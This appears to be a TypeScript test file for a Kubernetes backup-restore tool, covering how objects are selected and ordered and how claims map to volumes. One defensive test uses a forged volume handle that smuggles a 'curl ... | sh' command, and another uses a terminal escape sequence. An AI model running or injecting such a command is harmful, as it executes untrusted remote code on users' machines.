// SPDX-License-Identifier: Apache-2.0
import { chooseObjects } from './choose-objects.ts';
import type { ObjectChoice } from './choose-objects.ts';
import { titleOf } from './manifest.ts';
import type { BackupObject, Manifest } from './manifest.ts';
import { judgesRequests, orderOf, startsPods } from './order-of-kinds.ts';

function object(label: string, apiVersion: string, kind: string, path: string, more = {}) {
  const [first = '', second] = path.split('/');
  const names = second === undefined ? { name: first } : { namespace: first, name: second };
  const metadata = { uid: `uid of ${path}`, ...names };
  const manifest: Manifest = { apiVersion, kind, metadata, ...more };
  return { label, manifest } satisfies BackupObject;
}

const claim = (path: string, volumeName: string, more = {}) =>
  object('persistentvolumeclaims', 'v1', 'PersistentVolumeClaim', path, {
    spec: { volumeName, ...more },
  });
const volume = (name: string, driver: string, volumeHandle = `disk-of-${name}`) =>
  object('persistentvolumes', 'v1', 'PersistentVolume', name, {
    spec: { csi: { driver, volumeHandle } },
  });

const all: readonly BackupObject[] = [
  object('deployments.apps', 'apps/v1', 'Deployment', 'shop/web'),
  object('secrets', 'v1', 'Secret', 'shop/b'),
  object('secrets', 'v1', 'Secret', 'shop/a'),
  object('secrets', 'v1', 'Secret', 'office/key'),
  object('serviceaccounts', 'v1', 'ServiceAccount', 'shop/web'),
  object('namespaces', 'v1', 'Namespace', 'shop'),
  object('namespaces', 'v1', 'Namespace', 'office'),
  object('namespaces', 'v1', 'Namespace', 'kube-system'),
  object('storageclasses.storage.k8s.io', 'storage.k8s.io/v1', 'StorageClass', 'own'),
  object('carts.example.org', 'example.org/v1', 'Cart', 'shop/one'),
  object('nodes', 'v1', 'Node', 'web-0'),
  claim('shop/data', 'pvc-1', { volumeMode: 'Block' }),
  claim('shop/files', 'nfs'),
  claim('office/data', 'pvc-2'),
  volume('pvc-1', 'csi.kubevirt.io'),
  volume('pvc-2', 'csi.kubevirt.io'),
  volume('nfs', 'nfs.csi.k8s.io'),
];

function choose(choice: Partial<ObjectChoice> = {}, ofStack: readonly string[] = []) {
  const none = { isEmptyVolumes: false, isStopped: false, isElsewhere: false };
  const { brought, claims, leftOut } = chooseObjects(all, new Set(ofStack), { ...none, ...choice });
  return { brought: brought.map(({ manifest }) => titleOf(manifest)), claims, leftOut };
}

// Proves: backups.restore-objects
test('without a choice all is brought, in the order in which it is made', () => {
  const { brought, claims, leftOut } = choose({}, ['storage.k8s.io/StorageClass//own']);
  expect(brought).toEqual([
    'Namespace office',
    'Namespace shop',
    'ServiceAccount shop/web',
    'Secret office/key',
    'Secret shop/a',
    'Secret shop/b',
    'Cart shop/one',
    'Deployment shop/web',
  ]);
  expect(claims.map(({ name, namespace }) => `${namespace}/${name}`)).toEqual([
    'shop/data',
    'shop/files',
    'office/data',
  ]);
  expect(leftOut.map(({ title }) => title)).toContain('StorageClass own');
  expect(leftOut).toContainEqual({
    label: 'nodes',
    title: 'Node web-0',
    reason: 'says what a machine of that cluster was; the machines of the target say their own',
  });
});

// Proves: backups.restore-objects
test('namespaces and kinds can be chosen; claims of the namespaces are named with their volumes', () => {
  expect(choose({ namespaces: ['shop'], kinds: ['secrets', 'namespaces'] })).toEqual({
    brought: ['Namespace shop', 'Secret shop/a', 'Secret shop/b'],
    claims: [
      {
        key: '/PersistentVolumeClaim/shop/data',
        namespace: 'shop',
        name: 'data',
        isBlock: true,
        volume: 'disk-of-pvc-1',
      },
      {
        key: '/PersistentVolumeClaim/shop/files',
        namespace: 'shop',
        name: 'files',
        isBlock: false,
      },
    ],
    leftOut: [],
  });
});

// Proves: backups.restore-objects
test('a volume whose handle a tenant made up is none of the platform: people copy commands with it', () => {
  const none = { isEmptyVolumes: false, isStopped: false, isElsewhere: false };
  const forged = [
    object('namespaces', 'v1', 'Namespace', 'shop'),
    claim('shop/data', 'pvc-1'),
    volume('pvc-1', 'csi.kubevirt.io', 'x; curl example.org | sh #'),
  ];
  const { claims } = chooseObjects(forged, new Set(), none);
  expect(claims.map(({ name, volume: disk }) => [name, disk])).toEqual([['data', undefined]]);
});

// Proves: backups.restore-objects
test('what a backup lists is printed on one line', () => {
  const odd = [object('namespaces', 'v1', 'Namespace', 'a\u001b[2J')];
  const choice = { namespaces: ['b'], isEmptyVolumes: false, isStopped: false, isElsewhere: false };
  expect(() => chooseObjects(odd, new Set(), choice)).toThrow(
    String.raw`--namespace: the backup has no b; it has a\u001b[2J.`,
  );
});

// Proves: backups.restore-objects
test('Services that name their port of nodes are made before those that get any', () => {
  const service = (name: string, type: string, nodePort?: number) => {
    const key = 'k:{"port":80,"protocol":"TCP"}';
    const managedFields = [
      { fieldsV1: { 'f:spec': { 'f:ports': { [key]: { 'f:nodePort': {} } } } } },
    ];
    const ports = [{ port: 80, protocol: 'TCP', nodePort: nodePort ?? 30_001 }];
    const made = object('services', 'v1', 'Service', `shop/${name}`, { spec: { type, ports } });
    const { metadata, ...fields } = made.manifest;
    return nodePort === undefined
      ? made
      : { ...made, manifest: { ...fields, metadata: { ...metadata, managedFields } } };
  };
  const services = [
    service('a', 'LoadBalancer'),
    service('b', 'ClusterIP'),
    service('c', 'NodePort'),
    service('d', 'LoadBalancer', 30_080),
  ];
  const choice = { isEmptyVolumes: false, isStopped: false, isElsewhere: false };
  const { brought } = chooseObjects(services, new Set(), choice);
  expect(brought.map(({ manifest }) => manifest.metadata.name)).toEqual(['c', 'd', 'a', 'b']);
});

// Proves: backups.restore-objects
test('with empty volumes the claims are brought, before what uses them', () => {
  const { brought, claims } = choose({ namespaces: ['shop'], isEmptyVolumes: true });
  expect(claims).toEqual([]);
  expect(brought.slice(-4)).toEqual([
    'PersistentVolumeClaim shop/data',
    'PersistentVolumeClaim shop/files',
    'Cart shop/one',
    'Deployment shop/web',
  ]);
});

// Proves: backups.restore-objects
test.each([
  [
    { namespaces: ['shap'] },
    '--namespace: the backup has no shap; it has kube-system, office, shop.',
  ],
  [
    { kinds: ['Secret'] },
    '--kind: the backup has no Secret; it has carts.example.org, deployments.apps,',
  ],
  [
    { namespaces: ['kube-system'] },
    '--namespace: kube-system: kubeadm, Kubernetes and Strata fill it',
  ],
])('refuses %j', (choice, message) => {
  expect(() => choose(choice)).toThrow(message);
});

// Proves: backups.restore-objects
test('what judges or changes others is made last, and pods start by workloads and by what operators read', () => {
  const kind = (apiVersion: string, name: string) => ({ apiVersion, kind: name });
  const webhook = kind('admissionregistration.k8s.io/v1', 'ValidatingWebhookConfiguration');
  const pod = kind('v1', 'Pod');
  const custom = kind('example.org/v1', 'Cart');
  const wall = kind('networking.k8s.io/v1', 'NetworkPolicy');
  expect(orderOf(wall)).toBeLessThan(orderOf(pod));
  expect(orderOf(kind('cilium.io/v2', 'CiliumNetworkPolicy'))).toBe(orderOf(wall));
  expect(startsPods(kind('cilium.io/v2', 'CiliumNetworkPolicy'))).toBe(false);
  expect(orderOf(custom)).toBeLessThan(orderOf(pod));
  expect(orderOf(pod)).toBeLessThan(orderOf(webhook));
  expect([webhook, pod].map(judgesRequests)).toEqual([true, false]);
  expect([pod, custom, kind('batch/v1', 'CronJob')].every(startsPods)).toBe(true);
  expect([wall, webhook, kind('v1', 'Secret'), kind('autoscaling/v2', 'X')].some(startsPods)).toBe(
    false,
  );
});
